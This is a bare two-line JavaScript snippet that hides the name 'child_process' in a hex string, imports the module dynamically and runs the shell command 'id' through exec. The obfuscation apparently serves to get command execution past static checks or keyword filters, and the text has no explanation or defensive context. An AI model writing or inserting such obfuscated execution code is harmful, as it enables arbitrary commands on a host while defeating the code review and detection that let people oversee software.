const m = await import(Buffer.from('6368696c645f70726f63657373', 'hex').toString());
m.exec('id');
